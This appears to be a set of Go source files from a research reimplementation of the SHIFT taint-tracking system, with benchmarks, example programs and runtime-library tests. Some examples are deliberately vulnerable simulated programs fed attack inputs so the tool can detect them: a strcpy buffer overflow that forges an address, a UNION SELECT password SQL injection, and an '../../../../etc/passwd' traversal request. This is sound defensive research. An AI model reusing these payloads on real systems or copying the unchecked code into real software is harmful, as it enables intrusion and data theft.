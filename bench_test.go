// Benchmarks regenerating the paper's evaluation: one benchmark per table
// and figure. Each runs the corresponding experiment through the
// internal/bench harness and reports the headline numbers as custom
// metrics, so `go test -bench=. -benchmem` reproduces the whole
// evaluation at a reduced scale (cmd/shiftbench runs the full one).
package repro_test

import (
	"testing"

	"shift/internal/bench"
	"shift/internal/shift"
	"shift/internal/workload"
)

// benchScaleDiv shrinks the reference inputs so the full suite stays
// quick under `go test -bench`; use cmd/shiftbench for reference scale.
const benchScaleDiv = 8

// BenchmarkTable2AttackDetection runs the full security evaluation:
// 8 attacks x 2 granularities x {benign, exploit, unprotected}.
func BenchmarkTable2AttackDetection(b *testing.B) {
	for i := 0; i < b.N; i++ {
		results, err := bench.Table2()
		if err != nil {
			b.Fatal(err)
		}
		detected := 0
		for _, r := range results {
			if r.Detected() {
				detected++
			}
		}
		if detected != len(results) {
			b.Fatalf("only %d/%d detected", detected, len(results))
		}
		b.ReportMetric(float64(detected), "detected")
	}
}

// BenchmarkFig6Apache measures server overhead at the paper's four file
// sizes and reports the worst-case (4KB) overhead percentage.
func BenchmarkFig6Apache(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, err := bench.Fig6(50, []int{4 * 1024, 8 * 1024, 16 * 1024, 512 * 1024})
		if err != nil {
			b.Fatal(err)
		}
		worst := 0.0
		for _, r := range rows {
			if ov := (1/r.RelLatency["byte-unsafe"] - 1) * 100; ov > worst {
				worst = ov
			}
		}
		b.ReportMetric(worst, "worst-overhead-%")
	}
}

// BenchmarkFig7Spec measures the SPEC-like slowdowns (byte/word x
// unsafe/safe) and reports the geometric means.
func BenchmarkFig7Spec(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, err := bench.Fig7(benchScaleDiv)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(bench.Geomean(rows, "byte-unsafe"), "byte-slowdown-X")
		b.ReportMetric(bench.Geomean(rows, "word-unsafe"), "word-slowdown-X")
	}
}

// BenchmarkFig8Enhancements measures the enhancement configurations and
// reports the slowdown-point reduction of the full enhancement set.
func BenchmarkFig8Enhancements(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, err := bench.Fig8(benchScaleDiv)
		if err != nil {
			b.Fatal(err)
		}
		reduction := bench.Geomean(rows, "byte-unsafe") - bench.Geomean(rows, "byte-both")
		b.ReportMetric(reduction*100, "byte-both-reduction-pts")
	}
}

// BenchmarkFig9Breakdown derives the instrumentation cost breakdown and
// reports the load-computation share (the paper's dominant component).
func BenchmarkFig9Breakdown(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, err := bench.Fig9(benchScaleDiv)
		if err != nil {
			b.Fatal(err)
		}
		var ldc, ldm float64
		for _, r := range rows {
			ldc += r.LoadCompute["byte"]
			ldm += r.LoadTagMem["byte"]
		}
		b.ReportMetric(ldc/float64(len(rows)), "ld-compute-x-base")
		b.ReportMetric(ldm/float64(len(rows)), "ld-tag-mem-x-base")
	}
}

// BenchmarkTable3CodeSize measures static code expansion and reports the
// byte-level expansion of the runtime library (the glibc analogue).
func BenchmarkTable3CodeSize(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, err := bench.Table3()
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(rows[0].BytePct(), "rtlib-byte-expansion-%")
	}
}

// BenchmarkAblationNatPerFunction measures the §4.4 ablation (regenerate
// the NaT source per function) and reports the cost ratio.
func BenchmarkAblationNatPerFunction(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, err := bench.Ablation(benchScaleDiv)
		if err != nil {
			b.Fatal(err)
		}
		base := bench.Geomean(rows, "byte-unsafe")
		b.ReportMetric(bench.Geomean(rows, "byte-nat-per-function")/base, "per-function-ratio")
		b.ReportMetric(bench.Geomean(rows, "byte-nat-per-use")/base, "per-use-ratio")
	}
}

// BenchmarkSimulator measures raw simulation speed (guest instructions
// retired per host second) on the gzip benchmark baseline.
func BenchmarkSimulator(b *testing.B) {
	wl := workload.GzipLike
	prog, err := shift.Build([]shift.Source{{Name: "gzip.mc", Text: wl.Source}}, shift.Options{})
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	var retired uint64
	for i := 0; i < b.N; i++ {
		res, err := shift.Run(prog, wl.World(wl.RefScale/benchScaleDiv), shift.Options{})
		if err != nil {
			b.Fatal(err)
		}
		if res.Trap != nil {
			b.Fatal(res.Trap)
		}
		retired += res.Retired
	}
	b.ReportMetric(float64(retired)/b.Elapsed().Seconds(), "guest-instr/s")
}

// BenchmarkBuildPipeline measures the compiler+instrumenter end to end.
func BenchmarkBuildPipeline(b *testing.B) {
	wl := workload.GccLike
	for i := 0; i < b.N; i++ {
		if _, err := shift.Build([]shift.Source{{Name: "gcc.mc", Text: wl.Source}},
			shift.Options{Instrument: true}); err != nil {
			b.Fatal(err)
		}
	}
}
