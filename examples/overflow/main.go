// Overflow: the paper's Figure 1 — the qwik-smtpd 0.3 buffer overflow.
// An unchecked strcpy of attacker input into clientHELO[32] overruns into
// the adjacent localIP buffer; the attacker forges localIP to equal their
// own address and the relay check passes. With SHIFT, the overflowing
// bytes carry taint into localIP's tag bits, and the Figure-1 check
// ("if (Tainted(localip)) Alert") fires before the relay decision.
package main

import (
	"fmt"
	"log"
	"strings"

	"shift/internal/shift"
)

const smtpd = `
char clientHELO[32];
char localIP[64];

void main() {
	char clientIP[16];
	strcpy(localIP, "127.0.0.1");
	strcpy(clientIP, "10.0.0.99");     // the peer's address

	char arg2[128];
	int n = recv(arg2, 128);
	if (n <= 0) exit(3);

	// Figure 1 line 5: "no check for length of arg2!"
	strcpy(clientHELO, arg2);

	// Figure 1's exploit detection: alert if untrusted data reached
	// localIP.
	if (is_tainted(localIP, 9)) {
		println("Exploit! localIP was overwritten by untrusted data");
		exit(2);
	}

	// Figure 1 lines 6-9: relay only for localhost.
	if (strcasecmp(clientIP, "127.0.0.1") == 0 || strcasecmp(clientIP, localIP) == 0) {
		println("RELAY GRANTED");
		exit(1);
	}
	println("relay denied");
	exit(0);
}
`

func run(input string, protect bool) *shift.Result {
	w := shift.NewWorld()
	w.NetIn = []byte(input)
	res, err := shift.BuildAndRun([]shift.Source{{Name: "qwik-smtpd.mc", Text: smtpd}},
		w, shift.Options{Instrument: protect})
	if err != nil {
		log.Fatal(err)
	}
	if res.Trap != nil {
		log.Fatalf("trap: %v", res.Trap)
	}
	return res
}

func main() {
	benign := "mail.example.com"
	// 32 bytes of filler reach the end of clientHELO; the tail lands in
	// localIP and equals the attacker's own address.
	exploit := strings.Repeat("A", 32) + "10.0.0.99"

	res := run(benign, false)
	fmt.Printf("baseline, benign HELO:   %s", res.World.Stdout)

	res = run(exploit, false)
	fmt.Printf("baseline, exploit HELO:  %s", res.World.Stdout)
	if res.ExitStatus != 1 {
		log.Fatal("expected the unprotected relay check to be bypassed")
	}

	res = run(benign, true)
	fmt.Printf("SHIFT, benign HELO:      %s", res.World.Stdout)
	if res.Alert != nil {
		log.Fatalf("false positive: %v", res.Alert)
	}

	res = run(exploit, true)
	fmt.Printf("SHIFT, exploit HELO:     %s", res.World.Stdout)
	if res.ExitStatus != 2 {
		log.Fatal("expected the taint check to catch the overflow")
	}
}
