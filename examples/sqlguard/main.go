// Sqlguard: policies are plain-text configuration, decoupled from the
// tracking mechanism (the paper's central design point). The same FAQ
// application runs once with H3 enabled — catching an injection — and
// once with a policy file that leaves H3 off, showing the mechanism
// never hard-codes the policy.
package main

import (
	"fmt"
	"log"

	"shift/internal/policy"
	"shift/internal/shift"
)

const app = `
char id[128];
char q[512];

void main() {
	int n = recv(id, 128);
	if (n <= 0) exit(1);
	strcpy(q, "SELECT answer FROM faqdata WHERE qid = '");
	strcat(q, id);
	strcat(q, "'");
	sql_exec(q);
	exit(0);
}
`

const strictPolicy = `
# the FAQ frontend: network input is untrusted
granularity byte
source network
enable H3 L1 L2 L3
`

const lenientPolicy = `
# same sources, but no SQL policy
granularity byte
source network
enable L1 L2 L3
`

func run(policyText, input string) *shift.Result {
	conf, err := policy.Parse(policyText)
	if err != nil {
		log.Fatal(err)
	}
	w := shift.NewWorld()
	w.NetIn = []byte(input)
	res, err := shift.BuildAndRun([]shift.Source{{Name: "faq.mc", Text: app}},
		w, shift.Options{Instrument: true, Policy: conf})
	if err != nil {
		log.Fatal(err)
	}
	return res
}

func main() {
	injection := "42' UNION SELECT password FROM users WHERE '1'='1"

	res := run(strictPolicy, "20060915")
	fmt.Printf("benign id under H3:      alert=%v  queries=%d\n", res.Alert, len(res.World.SQLLog))

	res = run(strictPolicy, injection)
	if res.Alert == nil {
		log.Fatal("injection missed under H3")
	}
	fmt.Printf("injection under H3:      %s\n", res.Alert)

	res = run(lenientPolicy, injection)
	fmt.Printf("injection, H3 disabled:  alert=%v — query reached the database:\n  %q\n",
		res.Alert, res.World.SQLLog[0])
	fmt.Println("same binary mechanism, different outcomes: policy is configuration")
}
