// Threads: the paper's §4.4 future work, implemented. A multi-threaded
// guest runs under SHIFT with taint flowing between threads through the
// shared bitmap — and the same experiment that motivated the paper's
// caution: because the byte-level tag update is an unserialized
// read-modify-write, a torn update between threads can silently drop a
// taint bit. Both behaviours are deterministic here.
package main

import (
	"fmt"
	"log"

	"shift/internal/shift"
	"shift/internal/workload"
)

const racey = `
char shared[8];
char tbuf[8];

int tainter(int delay) {
	int i;
	int v = 0;
	for (i = 0; i < delay; i++) v += i;
	shared[0] = tbuf[0];          // one tainted store
	return v;
}

int churner(int n) {
	int i;
	for (i = 0; i < n; i++) shared[1] = (i & 1) ? tbuf[1] : 'x';
	return 0;
}

void main() {
	recv(tbuf, 8);
	int b = spawn("churner", 300);
	int a = spawn("tainter", 21);
	join(a);
	join(b);
	exit(is_tainted(shared, 1) ? 1 : 0);
}
`

func runRace(quantum uint64) int64 {
	w := shift.NewWorld()
	w.NetIn = []byte{0xAA, 0xBB}
	res, err := shift.BuildAndRun([]shift.Source{{Name: "race.mc", Text: racey}}, w,
		shift.Options{Instrument: true, Quantum: quantum})
	if err != nil {
		log.Fatal(err)
	}
	if res.Trap != nil || res.Alert != nil {
		log.Fatalf("trap=%v alert=%v", res.Trap, res.Alert)
	}
	return res.ExitStatus
}

func main() {
	// A well-partitioned multi-threaded program under SHIFT: four
	// workers over tainted file input, identical output to baseline.
	base, err := shift.BuildAndRun(
		[]shift.Source{{Name: "mt.mc", Text: workload.MTSource}},
		workload.MTWorld(4096, 4), shift.Options{})
	if err != nil {
		log.Fatal(err)
	}
	prot, err := shift.BuildAndRun(
		[]shift.Source{{Name: "mt.mc", Text: workload.MTSource}},
		workload.MTWorld(4096, 4),
		shift.Options{Instrument: true, Policy: workload.MTConfig()})
	if err != nil {
		log.Fatal(err)
	}
	if string(base.World.Stdout) != string(prot.World.Stdout) || prot.Alert != nil {
		log.Fatal("threaded run diverged under SHIFT")
	}
	fmt.Printf("4 workers counted %s words; slowdown %.2fX, no alerts\n",
		string(base.World.Stdout[:len(base.World.Stdout)-1]),
		float64(prot.Cycles)/float64(base.Cycles))

	// The §4.4 hazard: tiny time slices tear the byte-level tag
	// read-modify-write and the taint is lost; coarse slices keep it.
	fine := runRace(5)
	coarse := runRace(1_000_000)
	fmt.Printf("taint survives churn: quantum=5 -> %v, quantum=1e6 -> %v\n",
		fine == 1, coarse == 1)
	if fine == 0 && coarse == 1 {
		fmt.Println("the unserialized bitmap dropped a tag under preemption —")
		fmt.Println("exactly why the paper's prototype excluded multi-threaded code (§4.4)")
	}
}
