// Speculation: §3.3.4 of the paper — SHIFT repurposes the deferred-
// exception token for taint, yet control speculation can still use it.
// The compiler's recovery discipline (chk.s jumps to a non-speculative
// re-execution) is simply kept: a speculation "failure" caused by a taint
// token instead of a real deferred fault costs a recovery run (a benign
// false positive for the speculation machinery) but computes the same
// answer.
//
// This example works at the assembly level, since minic never emits
// speculative loads itself.
package main

import (
	"fmt"
	"log"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/loader"
	"shift/internal/machine"
)

// The kernel sums a[i] + b for the elements of an array. The load of b is
// hoisted above the loop as a speculative load; if its register carries a
// token at use time — deferred fault OR taint — chk.s reruns the
// non-speculative version.
const kernel = `
	.data
a:	.word8 1, 2, 3, 4, 5, 6, 7, 8
b:	.word8 100
recoveries:
	.word8 0
	.text
	.entry main
main:
	movl r1 = a
	movl r2 = b
	ld8.s r3 = [r2]        ; speculative: may carry a token at use
	movl r4 = 0            ; sum
	movl r5 = 0            ; i
loop:
	cmpi.ge p6, p7 = r5, 8
	(p6) br done
	shli r6 = r5, 3
	add r6 = r6, r1
	ld8 r7 = [r6]
	chk.s r3, recover      ; token? rerun non-speculatively
use:
	add r7 = r7, r3
	add r4 = r4, r7
	addi r5 = r5, 1
	br loop
recover:
	; non-speculative reload; a plain ld8 strips the token, and the
	; recovery counter records that speculation was rolled back.
	ld8 r3 = [r2]
	movl r8 = recoveries
	ld8 r9 = [r8]
	addi r9 = r9, 1
	st8 [r8] = r9
	br use
done:
	movl r8 = recoveries
	ld8 r9 = [r8]
	mov r32 = r4
	syscall 1
`

// exitOS implements just enough OS to stop the machine.
type exitOS struct{}

func (exitOS) Syscall(m *machine.Machine, num int64) (uint64, *machine.Trap) {
	if num == isa.SysExit {
		m.Halt(m.GR[isa.RegArg0])
		return 0, nil
	}
	return 0, &machine.Trap{Kind: machine.TrapHostError, PC: m.PC, Ins: "syscall"}
}

func run(taintB bool) (sum int64, recoveries int64) {
	prog, err := asm.Assemble(kernel, asm.Options{})
	if err != nil {
		log.Fatal(err)
	}
	img, err := loader.Load(prog)
	if err != nil {
		log.Fatal(err)
	}
	m := img.NewMachine()
	m.OS = exitOS{}

	if taintB {
		// Simulate SHIFT having tainted the value of b: after the
		// speculative load, set the register's token the way an
		// instrumented load would have.
		for m.PC != prog.Symbols["loop"] {
			if trap := m.Step(); trap != nil {
				log.Fatal(trap)
			}
		}
		m.NaT[3] = true
	}
	if trap := m.Run(); trap != nil {
		log.Fatal(trap)
	}
	rec, _ := m.Mem.Read(prog.DataSymbols["recoveries"], 8)
	return m.ExitStatus, int64(rec)
}

func main() {
	sum, rec := run(false)
	fmt.Printf("clean data:   sum=%d, speculative recoveries=%d\n", sum, rec)

	tsum, trec := run(true)
	fmt.Printf("tainted data: sum=%d, speculative recoveries=%d\n", tsum, trec)

	if sum != tsum {
		log.Fatal("taint-induced recovery changed the result")
	}
	if trec == 0 {
		log.Fatal("expected the token to trigger the recovery path")
	}
	fmt.Println("same answer either way: a taint token just costs a recovery run,")
	fmt.Println("exactly the coexistence argument of paper §3.3.4")
}
