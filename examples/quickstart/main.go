// Quickstart: build a minic program with SHIFT instrumentation, feed it
// tainted network input, and watch the deferred-exception hardware catch
// a tainted pointer dereference (policy L1) — the end-to-end flow of the
// paper in one page.
package main

import (
	"fmt"
	"log"

	"shift/internal/shift"
)

// program reads a message from the network and, foolishly, uses one of
// its bytes as a table index with no bounds check.
const program = `
int table[256];

void main() {
	char msg[32];
	int n = recv(msg, 32);
	if (n <= 0) exit(1);

	// Bug: msg[0] is attacker-controlled and unchecked.
	int idx = msg[0];
	int v = table[idx];
	exit(v == 0 ? 0 : 1);
}
`

func main() {
	// First, the unprotected baseline: the lookup silently succeeds.
	world := shift.NewWorld()
	world.NetIn = []byte{42}
	base, err := shift.BuildAndRun([]shift.Source{{Name: "lookup.mc", Text: program}},
		world, shift.Options{})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("unprotected: exit=%d alert=%v (the bug goes unnoticed)\n",
		base.ExitStatus, base.Alert)

	// Now under SHIFT: the network bytes are tainted at the recv
	// boundary, the taint rides the NaT bit into idx, and the load
	// through a tainted address raises a NaT-consumption fault that the
	// policy engine classifies as L1.
	world = shift.NewWorld()
	world.NetIn = []byte{42}
	res, err := shift.BuildAndRun([]shift.Source{{Name: "lookup.mc", Text: program}},
		world, shift.Options{Instrument: true})
	if err != nil {
		log.Fatal(err)
	}
	if res.Alert == nil {
		log.Fatal("expected an L1 alert")
	}
	fmt.Printf("with SHIFT:  %s\n", res.Alert)
	fmt.Printf("             (%d cycles to the alert; the clean baseline took %d)\n",
		res.Cycles, base.Cycles)
}
