// Signatures: the feedback loop from the paper's introduction — DIFT
// "can provide precise information to detect and reason about various
// attacks ... the results of such reasoning could be used as feedback to
// generate accurate intrusion prevention signatures". A detected SQL
// injection yields the exact attacker-controlled bytes at the sink; the
// extracted signature then filters the wire traffic that caused it while
// passing benign requests.
package main

import (
	"fmt"
	"log"

	"shift/internal/attacks"
	"shift/internal/forensics"
	"shift/internal/shift"
)

func main() {
	a := attacks.PhpMyFAQ

	// Detect the injection under SHIFT.
	world := a.Exploit()
	res, err := shift.BuildAndRun([]shift.Source{{Name: a.Program, Text: a.Source}},
		world, shift.Options{Instrument: true, Policy: a.Config()})
	if err != nil {
		log.Fatal(err)
	}
	if res.Alert == nil {
		log.Fatal("the injection went undetected")
	}
	fmt.Printf("detected: %s\n", res.Alert)

	// Extract the signature: the tainted bytes at the violated sink.
	sig := forensics.FromViolation(res.Alert.Violation)
	if sig == nil {
		log.Fatal("no signature")
	}
	fmt.Printf("signature: %s\n", sig)

	// Locate the attacker bytes in the input channels.
	for _, p := range forensics.Locate(sig, forensics.Channels{Network: world.NetIn}) {
		fmt.Printf("provenance: token %q entered via %s at offset %d\n",
			p.Token.Text, p.Channel, p.Offset)
	}

	// The signature now works as an inline filter.
	exploit := world.NetIn
	benign := []byte("20060915")
	fmt.Printf("filter drops the exploit request: %v\n", sig.Match(exploit))
	fmt.Printf("filter passes a benign request:   %v\n", !sig.Match(benign))
}
