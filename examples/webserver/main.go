// Webserver: the paper's Apache scenario. A file server runs under SHIFT
// with every network byte tainted. Benign requests are served with a few
// percent overhead; a directory-traversal request trips policy H2 at the
// open() sink before any file content leaks.
package main

import (
	"fmt"
	"log"

	"shift/internal/shift"
	"shift/internal/workload"
)

func main() {
	// Serve 20 benign requests for a 4 KiB page, baseline vs SHIFT.
	base, err := shift.BuildAndRun(
		[]shift.Source{{Name: "httpd.mc", Text: workload.HTTPDSource}},
		workload.HTTPDWorld(20, 4096), shift.Options{})
	if err != nil {
		log.Fatal(err)
	}
	prot, err := shift.BuildAndRun(
		[]shift.Source{{Name: "httpd.mc", Text: workload.HTTPDSource}},
		workload.HTTPDWorld(20, 4096),
		shift.Options{Instrument: true, Policy: workload.HTTPDConfig()})
	if err != nil {
		log.Fatal(err)
	}
	if prot.Alert != nil {
		log.Fatalf("false positive on benign traffic: %v", prot.Alert)
	}
	fmt.Printf("served %d bytes, overhead %.2f%% (paper: ~1%%)\n",
		len(prot.World.NetOut),
		(float64(prot.Cycles)/float64(base.Cycles)-1)*100)

	// Now an attacker asks for a path outside the document root.
	attack := shift.NewWorld()
	req := make([]byte, workload.HTTPDRequestSize)
	copy(req, "GET ../../../../etc/passwd")
	attack.NetIn = req
	res, err := shift.BuildAndRun(
		[]shift.Source{{Name: "httpd.mc", Text: workload.HTTPDSource}},
		attack, shift.Options{Instrument: true, Policy: workload.HTTPDConfig()})
	if err != nil {
		log.Fatal(err)
	}
	if res.Alert == nil {
		log.Fatal("traversal went undetected")
	}
	fmt.Printf("attack blocked: %s\n", res.Alert)
}
