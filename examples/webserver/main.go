// Webserver: the paper's Apache scenario. A file server runs under SHIFT
// with every network byte tainted. Benign requests are served with a few
// percent overhead; a directory-traversal request trips policy H2 at the
// open() sink before any file content leaks.
//
// The attack run carries the observability stack: a flight recorder and
// a metrics registry ride the run, the violation's forensic report
// (signature, provenance, trace tail) prints, and the trace is written
// to webserver-trace.jsonl — load it in Perfetto via "Open trace file".
package main

import (
	"fmt"
	"log"
	"os"

	"shift/internal/metrics"
	"shift/internal/shift"
	"shift/internal/trace"
	"shift/internal/workload"
)

func main() {
	// Serve 20 benign requests for a 4 KiB page, baseline vs SHIFT.
	base, err := shift.BuildAndRun(
		[]shift.Source{{Name: "httpd.mc", Text: workload.HTTPDSource}},
		workload.HTTPDWorld(20, 4096), shift.Options{})
	if err != nil {
		log.Fatal(err)
	}
	prot, err := shift.BuildAndRun(
		[]shift.Source{{Name: "httpd.mc", Text: workload.HTTPDSource}},
		workload.HTTPDWorld(20, 4096),
		shift.Options{Instrument: true, Policy: workload.HTTPDConfig()})
	if err != nil {
		log.Fatal(err)
	}
	if prot.Alert != nil {
		log.Fatalf("false positive on benign traffic: %v", prot.Alert)
	}
	fmt.Printf("served %d bytes, overhead %.2f%% (paper: ~1%%)\n",
		len(prot.World.NetOut),
		(float64(prot.Cycles)/float64(base.Cycles)-1)*100)

	// Now an attacker asks for a path outside the document root — with
	// the flight recorder and metrics running.
	attack := shift.NewWorld()
	req := make([]byte, workload.HTTPDRequestSize)
	copy(req, "GET ../../../../etc/passwd")
	attack.NetIn = req
	tr := trace.New(0)
	reg := metrics.NewRegistry()
	res, err := shift.BuildAndRun(
		[]shift.Source{{Name: "httpd.mc", Text: workload.HTTPDSource}},
		attack, shift.Options{Instrument: true, Policy: workload.HTTPDConfig(), Trace: tr, Metrics: reg})
	if err != nil {
		log.Fatal(err)
	}
	if res.Alert == nil {
		log.Fatal("traversal went undetected")
	}
	fmt.Printf("attack blocked: %s\n", res.Alert)

	if rep := res.Report(); rep != nil {
		fmt.Println("--- forensic report ---")
		fmt.Print(rep)
	}
	fmt.Printf("recorder: %d events (%d dropped), tag writes %d, spec defers %d\n",
		tr.Total(), tr.Dropped(),
		reg.Counter("shift_tag_writes_total").Value(),
		reg.Counter("shift_spec_defers_total").Value())

	f, err := os.Create("webserver-trace.jsonl")
	if err != nil {
		log.Fatal(err)
	}
	if err := tr.WriteJSONL(f); err != nil {
		log.Fatal(err)
	}
	if err := f.Close(); err != nil {
		log.Fatal(err)
	}
	fmt.Println("trace written to webserver-trace.jsonl")
}
