package rtlib_test

import (
	"fmt"
	"testing"

	"shift/internal/shift"
)

// check runs a main() body that exits 0 on success and a distinct code
// per failed assertion, in baseline and instrumented modes.
func check(t *testing.T, body string) {
	t.Helper()
	src := "void main() {\n" + body + "\nexit(0);\n}\n"
	for _, instrument := range []bool{false, true} {
		res, err := shift.BuildAndRun([]shift.Source{{Name: "t.mc", Text: src}},
			shift.NewWorld(), shift.Options{Instrument: instrument})
		if err != nil {
			t.Fatalf("instrument=%v: %v", instrument, err)
		}
		if res.Trap != nil || res.Alert != nil {
			t.Fatalf("instrument=%v: trap=%v alert=%v", instrument, res.Trap, res.Alert)
		}
		if res.ExitStatus != 0 {
			t.Fatalf("instrument=%v: assertion %d failed", instrument, res.ExitStatus)
		}
	}
}

func TestStrlen(t *testing.T) {
	check(t, `
	if (strlen("") != 0) exit(1);
	if (strlen("abc") != 3) exit(2);
	char buf[64];
	memset(buf, 'x', 63);
	buf[63] = 0;
	if (strlen(buf) != 63) exit(3);
`)
}

func TestStrcpyStrncpy(t *testing.T) {
	check(t, `
	char a[16];
	strcpy(a, "hello");
	if (strcmp(a, "hello") != 0) exit(1);
	char b[8];
	strncpy(b, "hello", 3);
	if (b[0] != 'h' || b[2] != 'l') exit(2);
	// strncpy pads with NULs to n.
	char c[8];
	c[4] = 'Z';
	strncpy(c, "ab", 5);
	if (c[4] != 0) exit(3);
`)
}

func TestStrcatAndCompare(t *testing.T) {
	check(t, `
	char a[32];
	strcpy(a, "foo");
	strcat(a, "bar");
	if (strcmp(a, "foobar") != 0) exit(1);
	if (strcmp("abc", "abd") >= 0) exit(2);
	if (strcmp("abd", "abc") <= 0) exit(3);
	if (strncmp("abcde", "abcxx", 3) != 0) exit(4);
	if (strncmp("abcde", "abcxx", 4) >= 0) exit(5);
`)
}

func TestStrcasecmp(t *testing.T) {
	check(t, `
	if (strcasecmp("Hello", "hELLO") != 0) exit(1);
	if (strcasecmp("abc", "abd") >= 0) exit(2);
	if (tolower_c('A') != 'a') exit(3);
	if (tolower_c('z') != 'z') exit(4);
	if (tolower_c('0') != '0') exit(5);
`)
}

func TestStrstrAt(t *testing.T) {
	check(t, `
	if (strstr_at("hello world", "world") != 6) exit(1);
	if (strstr_at("hello", "x") != -1) exit(2);
	if (strstr_at("aaa", "aaaa") != -1) exit(3);
	if (strstr_at("abc", "") != 0) exit(4);
`)
}

func TestMemFunctions(t *testing.T) {
	check(t, `
	char a[8];
	char b[8];
	memset(a, 7, 8);
	memcpy(b, a, 8);
	if (memcmp_b(a, b, 8) != 0) exit(1);
	b[3] = 9;
	if (memcmp_b(a, b, 8) >= 0) exit(2);
	if (memcmp_b(a, b, 3) != 0) exit(3);
`)
}

func TestAtoiItoa(t *testing.T) {
	check(t, `
	if (atoi("0") != 0) exit(1);
	if (atoi("12345") != 12345) exit(2);
	if (atoi("  -987") != -987) exit(3);
	if (atoi("42abc") != 42) exit(4);
	char buf[24];
	if (itoa(0, buf) != 1) exit(5);
	if (strcmp(buf, "0") != 0) exit(6);
	itoa(-12034, buf);
	if (strcmp(buf, "-12034") != 0) exit(7);
	itoa(9223372036854775807, buf);
	if (strcmp(buf, "9223372036854775807") != 0) exit(8);
`)
}

func TestAtoiItoaRoundTrip(t *testing.T) {
	// A property check at the Go level: itoa(atoi(s)) round-trips for a
	// spread of values.
	for _, v := range []int64{0, 1, -1, 7, 99, -4096, 1 << 40, -(1 << 40)} {
		body := fmt.Sprintf(`
	char buf[24];
	itoa(%d, buf);
	if (atoi(buf) != %d) exit(1);
`, v, v)
		check(t, body)
	}
}

func TestPrintHelpers(t *testing.T) {
	src := `
void main() {
	print_str("n=");
	print_int(-42);
	println("!");
	exit(0);
}
`
	res, err := shift.BuildAndRun([]shift.Source{{Name: "t.mc", Text: src}},
		shift.NewWorld(), shift.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := string(res.World.Stdout); got != "n=-42!\n" {
		t.Errorf("stdout = %q", got)
	}
}

func TestHexConversions(t *testing.T) {
	check(t, `
	char buf[24];
	if (itohex(0, buf) != 1) exit(1);
	if (strcmp(buf, "0") != 0) exit(2);
	itohex(255, buf);
	if (strcmp(buf, "ff") != 0) exit(3);
	itohex(-4096, buf);
	if (strcmp(buf, "-1000") != 0) exit(4);
	if (atoihex("ff") != 255) exit(5);
	if (atoihex("0x1A2b") != 6699) exit(6);
	if (atoihex("10zz") != 16) exit(7);
`)
}

func TestMiscHelpers(t *testing.T) {
	check(t, `
	if (abs_i(-5) != 5 || abs_i(5) != 5 || abs_i(0) != 0) exit(1);
	if (min_i(3, 9) != 3 || max_i(3, 9) != 9) exit(2);
	if (!startswith("foobar", "foo")) exit(3);
	if (startswith("fo", "foo")) exit(4);
	if (!endswith("foobar", "bar")) exit(5);
	if (endswith("ar", "bar")) exit(6);
	if (strchr_at("hello", 'l') != 2) exit(7);
	if (strrchr_at("hello", 'l') != 3) exit(8);
	if (strchr_at("hello", 'z') != -1) exit(9);
	char s[16];
	strcpy(s, "MiXeD");
	str_tolower(s);
	if (strcmp(s, "mixed") != 0) exit(10);
`)
}

func TestSortAndSearch(t *testing.T) {
	check(t, `
	int a[64];
	int i;
	int st = 12345;
	for (i = 0; i < 64; i++) {
		st = st * 1103515245 + 12345;
		int v = st >> 16;
		a[i] = abs_i(v) % 1000;
	}
	qsort_ints(a, 0, 63);
	if (!issorted_ints(a, 64)) exit(1);
	for (i = 0; i < 64; i++) {
		if (bsearch_ints(a, 64, a[i]) < 0) exit(2);
	}
	if (bsearch_ints(a, 64, -1) != -1) exit(3);
	// Already sorted and reverse-sorted inputs.
	int b[16];
	for (i = 0; i < 16; i++) b[i] = i;
	qsort_ints(b, 0, 15);
	if (!issorted_ints(b, 16)) exit(4);
	for (i = 0; i < 16; i++) b[i] = 15 - i;
	qsort_ints(b, 0, 15);
	if (!issorted_ints(b, 16)) exit(5);
	if (b[0] != 0 || b[15] != 15) exit(6);
`)
}

// TestSortTaintedData: sorting tainted values preserves taint through the
// swaps (byte-level tags follow every store).
func TestSortTaintedData(t *testing.T) {
	src := `
int vals[32];
void main() {
	char buf[32];
	recv(buf, 32);
	int i;
	for (i = 0; i < 32; i++) vals[i] = buf[i];
	qsort_ints(vals, 0, 31);
	if (!issorted_ints(vals, 32)) exit(1);
	exit(is_tainted(vals, 256) ? 0 : 2);
}
`
	world := shift.NewWorld()
	input := make([]byte, 32)
	for i := range input {
		input[i] = byte(97 - i*3%50)
	}
	world.NetIn = input
	res, err := shift.BuildAndRun([]shift.Source{{Name: "t.mc", Text: src}}, world,
		shift.Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trap != nil || res.Alert != nil {
		t.Fatalf("trap=%v alert=%v", res.Trap, res.Alert)
	}
	if res.ExitStatus != 0 {
		t.Fatalf("exit=%d", res.ExitStatus)
	}
}
