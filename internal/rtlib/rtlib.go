// Package rtlib holds the minic runtime library. It is compiled and
// instrumented together with user code, so taint propagates through
// strcpy, memcpy and friends exactly as it does in the paper's glibc
// build — by the instrumentation of their own loads and stores, not by
// host-side magic. (Host-side "wrap" summaries exist only at the syscall
// boundary, the analogue of the paper's 17 wrap functions for assembly
// routines.)
package rtlib

// Source is the library, one translation unit of minic.
const Source = `
// ---------------------------------------------------------------------------
// String functions. Taint flows byte by byte through the instrumented
// loads and stores in these loops.

int strlen(char *s) {
	int n = 0;
	while (s[n]) n++;
	return n;
}

char *strcpy(char *dst, char *src) {
	int i = 0;
	while (src[i]) { dst[i] = src[i]; i++; }
	dst[i] = 0;
	return dst;
}

char *strncpy(char *dst, char *src, int n) {
	int i = 0;
	while (i < n && src[i]) { dst[i] = src[i]; i++; }
	while (i < n) { dst[i] = 0; i++; }
	return dst;
}

char *strcat(char *dst, char *src) {
	int n = strlen(dst);
	int i = 0;
	while (src[i]) { dst[n + i] = src[i]; i++; }
	dst[n + i] = 0;
	return dst;
}

int strcmp(char *a, char *b) {
	int i = 0;
	while (a[i] && a[i] == b[i]) i++;
	return a[i] - b[i];
